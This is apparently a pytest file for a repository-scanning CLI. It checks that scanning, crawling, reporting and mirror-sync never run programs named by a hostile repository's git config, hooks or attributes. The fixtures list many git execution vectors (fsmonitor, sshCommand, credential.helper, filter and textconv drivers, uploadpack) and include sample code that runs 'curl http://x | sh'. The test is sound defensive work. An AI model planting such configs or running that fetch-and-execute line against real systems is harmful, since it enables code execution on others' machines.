"""A repository whose own config, hooks and attributes name a program at every place git would run one (issue 15's
held-out "repository with hostile config"): no CLI verb that reads or syncs it runs any of them."""
from __future__ import annotations

import os
import subprocess
from pathlib import Path

from gitrepos import make_repo, mirror
from codescan.cli import main

HOOKS = ("pre-commit", "post-checkout", "post-merge", "reference-transaction", "pre-auto-gc", "post-rewrite",
         "pre-push", "post-index-change", "fsmonitor-watchman", "push-to-checkout", "sendemail-validate")


def _plant(gitdir: Path, script: Path, tmp_path: Path) -> None:
    """Config keys, hooks and an included config file that each run `script KEY`."""
    run = lambda key: f"{script} {key}"  # noqa: E731
    keys = {
        "core.fsmonitor": run("fsmonitor"), "core.pager": run("pager"), "core.editor": run("editor"),
        "core.askPass": run("askpass"), "core.sshCommand": run("ssh"), "core.gitProxy": run("proxy"),
        "core.alternateRefsCommand": run("altrefs"), "core.hooksPath": str(tmp_path / "hooks"),
        "diff.external": run("diff-external"), "diff.pwn.textconv": run("textconv"), "diff.pwn.command": run("diffcmd"),
        "filter.pwn.smudge": run("smudge"), "filter.pwn.clean": run("clean"), "filter.pwn.process": run("process"),
        "merge.pwn.driver": run("merge"), "gpg.program": run("gpg"), "gpg.ssh.program": run("gpgssh"),
        "log.showSignature": "true", "credential.helper": "!" + run("credential"),
        "uploadpack.packObjectsHook": run("packobjects"), "sequence.editor": run("seqeditor"),
        "pager.log": run("pager-log"), "pager.cat-file": run("pager-catfile"), "trailer.pwn.command": run("trailer"),
        "include.path": str(tmp_path / "extra.config"), "gc.auto": "1", "maintenance.auto": "true",
    }
    for key, value in keys.items():
        subprocess.run(["git", f"--git-dir={gitdir}", "config", key, value], check=True, env=_plain_env())
    (tmp_path / "extra.config").write_text(f"[core]\n\tfsmonitor = {run('included-fsmonitor')}\n")
    hooks = tmp_path / "hooks"
    hooks.mkdir(exist_ok=True)
    for name in HOOKS:
        (hooks / name).write_text(f"#!/bin/sh\n{run('hook-' + name)}\n")
        (hooks / name).chmod(0o755)


def _plain_env() -> dict:
    return {k: v for k, v in os.environ.items() if not k.startswith("GIT_")} | {"GIT_CONFIG_GLOBAL": os.devnull,
                                                                                "GIT_CONFIG_NOSYSTEM": "1"}


def test_no_verb_runs_a_program_a_scanned_repository_names(tmp_path, capsys):
    markers = tmp_path / "ran"
    markers.mkdir()
    script = tmp_path / "pwn.sh"
    script.write_text(f"#!/bin/sh\ntouch {markers}/$1\nexit 1\n")
    script.chmod(0o755)
    root = tmp_path / "root"
    work = make_repo(root / "proj", [{".gitattributes": "* diff=pwn filter=pwn merge=pwn\n",
                                      "a.py": "import os\nos.system('curl http://x | sh')\n"},
                                     {"b.py": "x = 1\n"}])
    make_repo(root / "other", [{"c.py": "import os\nos.system('curl http://x | sh')\n"}])  # campaigns: 2 repositories
    bare = mirror(Path(work.working_tree_dir), root / "acme" / "proj.git")
    for gitdir in (Path(work.git_dir), bare):
        _plant(gitdir, script, tmp_path)
    sync_url = f"file://{work.working_tree_dir}"
    subprocess.run(["git", f"--git-dir={bare}", "config", f"remote.{sync_url}.uploadpack",
                    f"{script} uploadpack; git-upload-pack"], check=True, env=_plain_env())
    (Path(work.working_tree_dir) / "a.py").write_text("import os\nos.system('id')\n")  # a dirty working tree
    state, urls = tmp_path / "state.db", tmp_path / "urls.txt"
    urls.write_text(f"{sync_url} acme/proj.git\n")
    verbs = [["scan", str(root), "--format", "json", "--no-progress"],
             ["crawl", str(root), "--state", str(state), "--no-progress", "--refs", "all"],
             ["findings", "--state", str(state), "--format", "json"],
             ["campaigns", str(root), "--format", "json"],
             ["report", "--state", str(state), "--source", str(root), "--output", str(tmp_path / "r.html")],
             ["mirror", "sync", str(urls), "--into", str(root)]]
    for argv in verbs:
        code = main(argv)
        err = capsys.readouterr().err
        assert code in (0, 1), (argv[0], err[-800:])
        assert not list(markers.iterdir()), f"{argv[0]} ran {sorted(p.name for p in markers.iterdir())}"
    assert state.exists() and (tmp_path / "r.html").exists()
    # The test can fail: plain git in the same repository runs what its config names.
    for args in (["log", "-p", "-1"], ["status"]):
        subprocess.run(["git", "-C", str(work.working_tree_dir), *args], capture_output=True, env=_plain_env(),
                       stdin=subprocess.DEVNULL, timeout=60)
    ran = {p.name for p in markers.iterdir()}
    assert {"fsmonitor", "included-fsmonitor", "textconv"} & ran, ran
